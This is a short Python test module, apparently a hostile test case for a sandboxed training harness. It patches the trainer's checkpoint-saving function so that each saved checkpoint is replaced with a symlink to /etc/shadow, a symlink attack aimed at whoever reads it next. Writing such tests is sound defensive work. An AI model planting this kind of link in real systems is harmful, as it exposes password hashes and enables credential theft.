"""Replaces each checkpoint it writes with a symlink to /etc/shadow, for whoever reads it next."""

import os
import sys

import harness.sandboxed.trainer as trainer

from tests.hostile._base import Uniform

original_save = trainer.save_checkpoint


def save_then_link(state, path):
    original_save(state, path)
    os.remove(path)
    os.symlink("/etc/shadow", path)


def patch_trainer(replacement):
    """The trainer runs as `python -m harness.sandboxed.trainer`: its live module is __main__."""
    for module in (sys.modules["__main__"], trainer):
        if hasattr(module, "save_checkpoint"):
            module.save_checkpoint = replacement  # the trainer's own process: this much it may do


class PlantsLink(Uniform):
    def setup(self, ctx):
        super().setup(ctx)
        patch_trainer(save_then_link)
